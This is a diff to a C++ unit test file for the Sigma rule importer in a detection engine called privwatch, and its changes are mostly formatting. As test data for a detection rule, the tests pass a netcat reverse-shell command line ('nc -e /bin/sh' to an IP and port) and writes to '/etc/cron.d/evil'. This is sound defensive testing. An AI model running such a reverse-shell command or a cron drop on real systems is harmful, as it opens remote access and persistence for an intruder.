@@ -1,8 +1,9 @@
 // Sigma import: real-world-shaped rules (fixtures/sigma) load and match; unsupported ones are
 // reported with the reason and their position.
+#include "detect/sigma.hpp"
+
 #include <gtest/gtest.h>
 
-#include "detect/sigma.hpp"
 #include "detect_test_util.hpp"
 
 namespace privwatch::detect {
@@ -29,8 +30,8 @@ TEST(Sigma, NetcatReverseShellAllOfSelections) {
   EXPECT_EQ(r.mitre, "T1059");
   EXPECT_EQ(r.kinds, kind_bit(model::EventKind::kExec));
   Engine e(std::move(set), no_limits());
-  EXPECT_EQ(fire(e, {exec_event("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"})}).size(),
-            1u);
+  EXPECT_EQ(
+      fire(e, {exec_event("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"})}).size(), 1u);
   // Case-insensitive like Sigma: /USR/BIN/NC still ends with /nc.
   EXPECT_EQ(fire(e, {exec_event("/USR/BIN/NC", {"nc", "-e", "/bin/sh", "h", "1"})}).size(), 1u);
   EXPECT_TRUE(fire(e, {exec_event("/usr/bin/nc", {"nc", "-l", "4444"})}).empty());
@@ -70,9 +71,9 @@ TEST(Sigma, FileEventMatchesWritesOnly) {
   ASSERT_EQ(set.rules.size(), 1u);
   EXPECT_EQ(set.rules[0]->kinds, kind_bit(model::EventKind::kFile));
   Engine e(std::move(set), no_limits());
-  EXPECT_EQ(fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.d/evil", O_WRONLY | O_CREAT)})
-                .size(),
-            1u);
+  EXPECT_EQ(
+      fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.d/evil", O_WRONLY | O_CREAT)}).size(),
+      1u);
   EXPECT_TRUE(fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.d/evil", O_RDONLY)}).empty());
   EXPECT_EQ(fire(e, {file_event(model::FileOp::kOpen, "/etc/cron.allow", O_WRONLY)}).size(), 1u);
 }
